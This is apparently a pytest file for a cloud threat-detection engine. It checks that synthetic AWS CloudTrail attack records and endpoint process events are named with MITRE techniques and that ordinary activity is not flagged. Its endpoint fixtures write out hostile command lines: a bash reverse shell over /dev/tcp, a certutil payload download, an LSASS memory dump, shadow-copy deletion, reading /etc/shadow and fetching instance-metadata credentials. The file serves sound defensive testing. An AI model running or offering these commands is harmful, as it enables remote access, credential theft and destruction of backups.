"""Every attack of the public catalogue of attacks on AWS is named, and ordinary work is not."""

import copy
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from evals import data
from mesh.agents.threat_intelligence.events import normalise
from mesh.agents.threat_intelligence.rulebook import Rules, own_catalogue
from mesh.agents.threat_intelligence.sigma import Detection, detect
from mesh.agents.threat_intelligence.sigma_match import View, predicate_of

NOON = datetime(2026, 3, 4, 12, tzinfo=UTC)
ME = "111122223333"


def call(service: str, name: str, *, minutes: float = 0, request: Any = None, **more: Any) -> dict[str, Any]:
    """A minimal CloudTrail record as that call leaves one."""
    record = {
        "eventTime": (NOON + timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "eventSource": f"{service}.amazonaws.com",
        "eventName": name,
        "awsRegion": "eu-central-1",
        "sourceIPAddress": "203.0.113.7",
        "recipientAccountId": ME,
        "userIdentity": {
            "type": "IAMUser", "arn": f"arn:aws:iam::{ME}:user/ana", "userName": "ana", "accountId": ME,
            "accessKeyId": "AKIAEXAMPLEEXAMPLE00",
        },
        "requestParameters": request,
        "responseElements": None,
    }  # fmt: skip
    return record | copy.deepcopy(more)


def on_instance(address: str = "198.51.100.4") -> dict[str, Any]:
    arn = f"arn:aws:sts::{ME}:assumed-role/web/i-0123456789abcdef0"
    identity = {
        "type": "AssumedRole",
        "arn": arn,
        "accountId": ME,
        "sessionContext": {"ec2RoleDelivery": "2.0"},
    }
    return {"userIdentity": identity, "sourceIPAddress": address}


def policy(principal: Any, action: str = "s3:GetObject") -> dict[str, Any]:
    statement = {"Effect": "Allow", "Principal": principal, "Action": action, "Resource": "*"}
    return {"Version": "2012-10-17", "Statement": [statement]}


OTHER = {"AWS": "arn:aws:iam::999988887777:root"}
LIFECYCLE = {"bucketName": "acme-logs", "LifecycleConfiguration": {"Rule": {"Expiration": {"Days": 1}}}}
LOOKS = [
    ("sts", "GetCallerIdentity"), ("s3", "ListBuckets"), ("iam", "GetAccountSummary"), ("iam", "ListRoles"),
    ("iam", "ListUsers"), ("ec2", "DescribeSnapshots"),
]  # fmt: skip
OPEN = {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}
SSE_C = {"bucketName": "b", "x-amz-server-side-encryption-customer-algorithm": "AES256"}

# Attacks from what AWS documents of the calls; the technique that must be named is the key's first part.
ATTACKS: dict[str, list[dict[str, Any]]] = {
    "T1552 windows passwords": [
        call("ec2", "GetPasswordData", request={"instanceId": f"i-{n}"}) for n in range(4)
    ],
    "T1552.005 stolen role": [
        call("ssm", "SendCommand", request={"documentName": "AWS-RunShellScript", "instanceIds": ["i-1"]}),
        call("ec2", "DescribeInstances", minutes=2, **on_instance("203.0.113.7")),
    ],
    "T1555.006 secrets": [
        call("secretsmanager", "GetSecretValue", request={"secretId": f"s{n}"}) for n in range(8)
    ],
    "T1555.006 batches": [call("secretsmanager", "BatchGetSecretValue", minutes=n) for n in range(3)],
    "T1555.006 parameters": [
        call(
            "ssm", "GetParameters", request={"names": [f"/p/{n}" for n in range(10)], "withDecryption": True}
        )
    ],
    "T1562 guardrail": [call("bedrock", "DeleteGuardrail")],
    "T1562.008 model log": [call("bedrock", "DeleteModelInvocationLoggingConfiguration")],
    "T1562.008 deleted": [call("cloudtrail", "DeleteTrail")],
    "T1562.008 stopped": [call("cloudtrail", "StopLogging")],
    "T1562.008 selectors": [
        call(
            "cloudtrail",
            "PutEventSelectors",
            request={"eventSelectors": [{"includeManagementEvents": False}]},
        )
    ],
    "T1562.008 lifecycle": [call("s3", "PutBucketLifecycle", request=LIFECYCLE)],
    "T1562.008 dns": [call("route53resolver", "DeleteResolverQueryLogConfig")],
    "T1562.008 flow": [call("ec2", "DeleteFlowLogs")],
    "T1666 left": [call("organizations", "LeaveOrganization", errorCode="AccessDenied")],
    "T1580 models": [call("bedrock", "InvokeModel", awsRegion=f"r-{n}") for n in range(4)],
    "T1580 user data": [
        call(
            "ec2",
            "DescribeInstanceAttribute",
            request={"instanceId": f"i-{n}", "attribute": "userData"},
            errorCode="Client.UnauthorizedOperation",
        )
        for n in range(6)
    ],
    "T1087.004 from instance": [call(service, name, **on_instance()) for service, name in LOOKS],
    "T1526 mail": [call("ses", "GetSendQuota"), call("ses", "ListIdentities")],
    "T1578.002 gpu": [
        call(
            "ec2",
            "RunInstances",
            request={"instanceType": "p3.2xlarge"},
            errorCode="Client.UnauthorizedOperation",
        )
    ],
    "T1059 user data": [
        call("ec2", "StopInstances"),
        call(
            "ec2",
            "ModifyInstanceAttribute",
            minutes=1,
            request={"instanceId": "i-1", "userData": "<removed>"},
        ),
        call("ec2", "StartInstances", minutes=2),
    ],
    "T1059 notebook": [
        call("sagemaker", "CreateNotebookInstanceLifecycleConfig"),
        call("sagemaker", "StopNotebookInstance"),
        call("sagemaker", "UpdateNotebookInstance", minutes=3, request={"lifecycleConfigName": "x"}),
        call("sagemaker", "StartNotebookInstance", minutes=6),
    ],
    "T1651 command": [
        call(
            "ssm",
            "SendCommand",
            request={"documentName": "AWS-RunShellScript", "instanceIds": ["i-1", "i-2", "i-3"]},
        )
    ],
    "T1021.008 sessions": [call("ssm", "StartSession", request={"target": f"i-{n}"}) for n in range(3)],
    "T1562.007 port": [
        call("ec2", "AuthorizeSecurityGroupIngress", request={"ipPermissions": {"items": [OPEN]}})
    ],
    "T1537 image": [
        call(
            "ec2", "ModifyImageAttribute", request={"launchPermission": {"add": {"items": [{"userId": "9"}]}}}
        )
    ],
    "T1537 snapshot": [
        call(
            "ec2",
            "ModifySnapshotAttribute",
            request={"createVolumePermission": {"add": {"items": [{"userId": "9"}]}}},
        )
    ],
    "T1537 database": [
        call(
            "rds",
            "ModifyDBSnapshotAttribute",
            request={"attributeName": "restore", "valuesToAdd": ["999988887777"]},
        )
    ],
    "T1537 bucket": [
        call("s3", "PutBucketPolicy", request={"bucketName": "b", "bucketPolicy": policy(OTHER)})
    ],
    "T1530 interpreter": [call("bedrock-agentcore", "StartCodeInterpreterSession")],
    "T1496.004 models": [
        call("bedrock", "PutUseCaseForModelAccess"),
        call("bedrock", "InvokeModel", minutes=1),
    ],
    "T1490 image gone": [call("ec2", "DeregisterImage")],
    "T1485 batch": [call("s3", "DeleteObjects", request={"bucketName": "b", "delete": ""})],
    "T1485 one by one": [
        call("s3", "DeleteObject", request={"bucketName": "b", "key": f"k{n}"}) for n in range(12)
    ],
    "T1486 own key": [call("s3", "CopyObject", request={**SSE_C, "key": f"k{n}"}) for n in range(6)],
    "T1078.004 no second factor": [
        call(
            "signin",
            "ConsoleLogin",
            responseElements={"ConsoleLogin": "Success"},
            additionalEventData={"MFAUsed": "No"},
        )
    ],
    "T1021.008 key pushed": [call("ec2-instance-connect", "SendSSHPublicKey")],
    "T1021.008 serial": [call("ec2-instance-connect", "SendSerialConsoleSSHPublicKey")],
    "T1550.001 refresh token": [call("cognito-idp", "GetTokensFromRefreshToken")],
    "T1098.001 key pair": [call("ec2", "CreateKeyPair", request={"keyName": "k"})],
    "T1098 role trust": [
        call(
            "iam",
            "UpdateAssumeRolePolicy",
            request={"policyDocument": json.dumps(policy(OTHER, "sts:AssumeRole"))},
        )
    ],
    "T1098.001 other's key": [call("iam", "CreateAccessKey", request={"userName": "bo"})],
    "T1136.003 admin": [
        call("iam", "CreateUser", request={"userName": "bo"}),
        call(
            "iam",
            "AttachUserPolicy",
            minutes=1,
            request={"userName": "bo", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
        ),
    ],
    "T1136.003 role": [
        call(
            "iam",
            "CreateRole",
            request={"assumeRolePolicyDocument": json.dumps(policy(OTHER, "sts:AssumeRole"))},
        )
    ],
    "T1098 password set": [call("iam", "CreateLoginProfile", request={"userName": "bo"})],
    "T1098 password replaced": [call("iam", "UpdateLoginProfile", request={"userName": "bo"})],
    "T1546 function open": [call("lambda", "AddPermission20150331v2", request={"principal": "*"})],
    "T1648 layer": [call("lambda", "UpdateFunctionConfiguration20150331v2", request={"layers": ["arn:x"]})],
    "T1648 code": [call("lambda", "UpdateFunctionCode20150331v2")],
    "T1098 trust anchor": [call("rolesanywhere", "CreateTrustAnchor")],
    "T1550.001 federation": [call("sts", "GetFederationToken")],
    "T1078.004 root": [
        call("s3", "ListBuckets", userIdentity={"type": "Root", "arn": f"arn:aws:iam::{ME}:root"})
    ],
}


def own(records: list[dict[str, Any]]) -> list[Detection]:
    return detect(normalise(records), Rules([own_catalogue()]))


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_attack_is_named(attack: str) -> None:
    assert attack.split()[0] in {technique for each in own(ATTACKS[attack]) for technique in each.techniques}


ORDINARY = [
    [call("secretsmanager", "GetSecretValue", minutes=n, request={"secretId": "db"}) for n in range(9)],
    [
        call(
            "s3", "PutBucketPolicy", request={"bucketPolicy": policy({"Service": "cloudtrail.amazonaws.com"})}
        )
    ],
    [
        call(
            "s3",
            "PutBucketLifecycle",
            request={"LifecycleConfiguration": {"Rule": {"Expiration": {"Days": 365}}}},
        )
    ],
    [call("ec2", "RunInstances", request={"instanceType": "t3.micro"})],
    [call("lambda", "AddPermission20150331v2", request={"principal": "events.amazonaws.com"})],
    [call("ec2", "ModifyInstanceAttribute", request={"disableApiTermination": {"value": True}})],
    [
        call(
            "ec2",
            "ModifyImageAttribute",
            request={"launchPermission": {"remove": {"items": [{"userId": "9"}]}}},
        )
    ],
    [call("ec2", "DescribeInstances", **on_instance(address)) for address in ["198.51.100.4"] * 3],
    [call("s3", "GetObject", request={"bucketName": "b", "key": f"k{n}"}) for n in range(10)],
    [
        call(
            "signin",
            "ConsoleLogin",
            responseElements={"ConsoleLogin": "Success"},
            additionalEventData={"MFAUsed": "Yes"},
        )
    ],
]


@pytest.mark.parametrize("records", ORDINARY)
def test_ordinary_work_raises_nothing(records: list[dict[str, Any]]) -> None:
    assert [each.title for each in own(records)] == []


def process(image: str, command: str, parent: str = "C:\\Windows\\explorer.exe") -> dict[str, Any]:
    return {"Image": image, "CommandLine": command, "ParentImage": parent}


def logged(channel: str, number: int, **data: str) -> dict[str, Any]:
    system = {"EventID": number, "Channel": channel, "TimeCreated": {"@SystemTime": NOON.isoformat()}}
    return {"Event": {"System": system, "EventData": data}}


SYSTEM32 = "C:\\Windows\\System32\\"
SHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
ENDPOINT = {
    "T1059.001": [process(SHELL, "powershell -nop -enc SQBFAFgA")],
    "T1490": [process(SYSTEM32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet")],
    "T1003.001": [process(SYSTEM32 + "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 624 out.bin full")],
    "T1105": [process(SYSTEM32 + "certutil.exe", "certutil -urlcache -f http://203.0.113.9/a a.exe")],
    "T1204.002": [process(SYSTEM32 + "cmd.exe", "cmd /c x", "C:\\Office\\WINWORD.EXE")],
    "T1562.001": [process(SHELL, "Set-MpPreference -DisableRealtimeMonitoring $true")],
    "T1070.001": [logged("Security", 1102)],
    "T1098.007": [logged("Security", 4732, TargetSid="S-1-5-32-544")],
    "T1110.003": [
        logged("Security", 4625, IpAddress="203.0.113.9", TargetUserName=f"u{n}") for n in range(9)
    ],
    "T1543.003": [logged("System", 7045, ImagePath="cmd.exe /c echo x")],
    "T1059.004": [process("/bin/bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'", "/bin/sh")],
    "T1003.008": [process("/usr/bin/cat", "cat /etc/shadow", "/bin/sh")],
    "T1552.005": [
        process("/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/r")
    ],
}


@pytest.mark.parametrize("technique", ENDPOINT)
def test_the_act_on_a_machine_is_named(technique: str) -> None:
    assert technique in {name for each in own(ENDPOINT[technique]) for name in each.techniques}


@pytest.mark.parametrize(
    "event",
    [
        process(SHELL, "powershell -ExecutionPolicy Bypass -File C:\\it\\inventory.ps1"),
        process(SYSTEM32 + "vssadmin.exe", "vssadmin list shadows"),
        process(SYSTEM32 + "certutil.exe", "certutil -hashfile a.iso SHA256"),
        process("/usr/bin/curl", "curl https://example.com/health"),
        logged("Security", 4624, IpAddress="192.0.2.4", TargetUserName="bo"),
        logged("System", 7045, ImagePath="C:\\Program Files\\Acme\\agent.exe"),
    ],
)
def test_ordinary_work_on_a_machine_raises_nothing(event: dict[str, Any]) -> None:
    assert own([event]) == []


def test_the_index_finds_what_trying_every_rule_finds() -> None:
    catalogue = own_catalogue()
    records = [each for records in ATTACKS.values() for each in records]
    events = normalise(records)
    rules = Rules([catalogue])
    for event in events:
        view = View(event.fields, event.text)
        reached = {ready.rule.id for group in rules.for_source(event.source) for ready in group.reached(view)}
        tests = {each.id: each.test for each in catalogue.rules if event.source.serves(each.logsource)}
        assert {name for name, test in tests.items() if test and predicate_of(test)(view)} <= reached


def test_recorded_attacks_are_all_named() -> None:
    detections = pytest.importorskip("evals.detections")
    name = "stratus_detonation_logs_dev.json.gz"
    path = data.file(name, of="ops") or pytest.skip(f"the evaluation data ({name}) is not here")
    figures = detections.figures(path.parent, path, None, lambda _: None)
    assert figures[0].value == 1.0, figures[0].note
